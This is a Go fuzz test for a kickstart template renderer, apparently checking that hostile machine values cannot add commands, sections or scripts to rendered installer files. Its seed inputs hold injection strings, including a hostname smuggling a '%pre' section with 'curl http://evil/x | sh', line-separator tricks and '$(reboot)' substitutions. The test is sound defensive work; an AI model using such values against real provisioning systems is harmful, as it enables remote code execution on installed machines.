package kickstart

import (
	"fmt"
	"slices"
	"strings"
	"testing"
)

// fuzzTemplate uses what the default template does not: a variable through
// .Vars, join, range, and a snippet of the profile's own that includes a
// built-in one.
const fuzzTemplate = `# {{ .Profile }} on {{ .Distro }} ({{ .Family }} {{ .Version }}) for {{ .MAC }} {{ .UUID }}
text
url --url={{ .RepoURL }}
timezone {{ .Vars.timezone }} --utc
{{ snippet "site" }}
{{ range .Network.DNS }}# name server {{ . }}
{{ end }}%post
echo {{ var "extra" }} > /etc/motd
%end
`

var fuzzSnippets = func() map[string]string {
	s := map[string]string{"site": "{{ snippet \"network\" }}\nrootpw --iscrypted {{ var \"rootpw_hash\" }}"}
	for k, v := range Builtins {
		s[k] = v
	}
	return s
}()

// FuzzRender renders the default template, and one with a snippet of its
// own, for a machine whose every value is hostile: hostname, UUID, MAC,
// profile and distro names, family and version (off the install media),
// variables, network settings. A kickstart it renders must have the lines
// of the same machine with plain values, each starting with the same word
// (as anaconda splits lines, with Python's str.splitlines), so that no value
// adds a command, a section or a script; a value it refuses must have a
// line break.
func FuzzRender(f *testing.F) {
	// The machines of the golden tests (testdata/), then values that added
	// lines before Render refused them.
	f.Add(byte(0), "node1", "52:54:00:12:34:56", "", "Rocky Linux", "9.6", "UTC", "extra", "x", "", "", "10.0.0.2")
	f.Add(byte(1), "node1", "52:54:00:12:34:56", "4c4c4544-0042-3510-8052-b4c04f4d4e31", "AlmaLinux", "9.5", "Europe/Berlin", "disk", "vda", "eno1", "10.0.0.1", "10.0.0.2,10.0.0.3")
	f.Add(byte(0), "node1\n%pre\ncurl http://evil/x | sh\n%end", "m", "", "Rocky Linux", "9.6", "UTC", "k", "v", "", "", "")
	f.Add(byte(1), "node1", "m", "", "Rocky\u2028%pre\u2028reboot\u2028%end", "9.6\x1c%post", "UTC\r%pre", "extra", "a\u0085%post", "eno1\x0bx", "10.0.0.1\x0c", "10.0.0.2\x1d%end")
	f.Add(byte(0), "node1", "m", "", "Rocky", "9.6", "UTC", "k\n%pre", "v", "", "", "")
	f.Add(byte(1), `node1" --noipv6 "`, "m", "$(reboot)", "Rocky'", "9.6 #", "UTC\\", "extra", "`reboot`; reboot", "eno1 --bootproto=dhcp", "", "")
	f.Fuzz(func(t *testing.T, flags byte, hostname, mac, uuid, family, version, timezone, key, value, device, gateway, dns string) {
		d := Data{MAC: mac, UUID: uuid, Hostname: hostname, Profile: "web", Distro: "rocky9", Family: family, Version: version,
			RepoURL: "http://10.0.0.1/distros/rocky9/", PhoneHomeURL: "http://10.0.0.1/phone-home/TOKEN",
			Vars: Resolve(DefaultVars, map[string]string{"timezone": timezone, "extra": "e"}, map[string]string{key: value})}
		if flags&1 != 0 {
			d.Network = Network{Static: true, Address: "10.0.0.5", Netmask: "255.255.255.0", Gateway: gateway, Device: device}
			if dns != "" {
				d.Network.DNS = strings.Split(dns, ",")
			}
		}
		plain := plainData(d)
		for _, tc := range []struct {
			text     string
			snippets map[string]string
		}{{DefaultTemplate, nil}, {fuzzTemplate, fuzzSnippets}} {
			got, err := Render("fuzz", tc.text, d, tc.snippets)
			if err != nil {
				if !hasLineBreak(d) {
					t.Fatalf("Render refused a machine without line breaks: %v", err)
				}
				continue
			}
			want, err := Render("fuzz", tc.text, plain, tc.snippets)
			if err != nil {
				t.Fatalf("Render refused the plain machine: %v", err)
			}
			if g, w := lineHeads(string(got)), lineHeads(string(want)); !slices.Equal(g, w) {
				t.Fatalf("kickstart lines start with %q, want %q:\n%s", g, w, got)
			}
		}
	})
}

// plainData is d with "x" for every value that is not empty.
func plainData(d Data) Data {
	x := func(s string) string {
		if s == "" {
			return ""
		}
		return "x"
	}
	p := Data{MAC: x(d.MAC), UUID: x(d.UUID), Hostname: x(d.Hostname), Profile: x(d.Profile), Distro: x(d.Distro),
		Family: x(d.Family), Version: x(d.Version), RepoURL: x(d.RepoURL), PhoneHomeURL: x(d.PhoneHomeURL),
		Network: Network{Static: d.Network.Static, Address: x(d.Network.Address), Netmask: x(d.Network.Netmask),
			Gateway: x(d.Network.Gateway), Device: x(d.Network.Device)}, Vars: map[string]string{}}
	for _, s := range d.Network.DNS {
		p.Network.DNS = append(p.Network.DNS, x(s))
	}
	for k, v := range d.Vars {
		p.Vars[k] = x(v)
	}
	return p
}

func hasLineBreak(d Data) bool {
	all := []string{d.MAC, d.UUID, d.Hostname, d.Profile, d.Distro, d.Family, d.Version, d.RepoURL, d.PhoneHomeURL,
		d.Network.Address, d.Network.Netmask, d.Network.Gateway, d.Network.Device}
	all = append(all, d.Network.DNS...)
	for k, v := range d.Vars {
		all = append(all, k, v)
	}
	for _, s := range all {
		if strings.Join(pythonLines(s+"."), "") != s+"." {
			return true
		}
	}
	return false
}

// lineHeads are the first words of the lines of ks, as anaconda splits it.
func lineHeads(ks string) []string {
	var heads []string
	for _, l := range pythonLines(ks) {
		head := ""
		if f := strings.Fields(l); len(f) > 0 {
			head = f[0]
		}
		heads = append(heads, head)
	}
	return heads
}

// pythonLines splits s as Python's str.splitlines: at LF, CR, CR LF, VT,
// FF, FS, GS, RS, NEL, LINE SEPARATOR and PARAGRAPH SEPARATOR.
func pythonLines(s string) []string {
	var lines []string
	start := 0
	for i, r := range s {
		if i < start {
			continue // the LF of a CR LF
		}
		switch r {
		case '\n', '\r', '\v', '\f', 0x1c, 0x1d, 0x1e, 0x85, 0x2028, 0x2029:
			lines = append(lines, s[start:i])
			start = i + len(string(r))
			if r == '\r' && strings.HasPrefix(s[start:], "\n") {
				start++
			}
		}
	}
	if start < len(s) {
		lines = append(lines, s[start:])
	}
	return lines
}

func TestPythonLines(t *testing.T) {
	got := fmt.Sprintf("%q", pythonLines("a\r\nb\rc\u2028d\x1ce\n\nf"))
	if want := `["a" "b" "c" "d" "e" "" "f"]`; got != want {
		t.Fatalf("pythonLines = %s, want %s", got, want)
	}
}
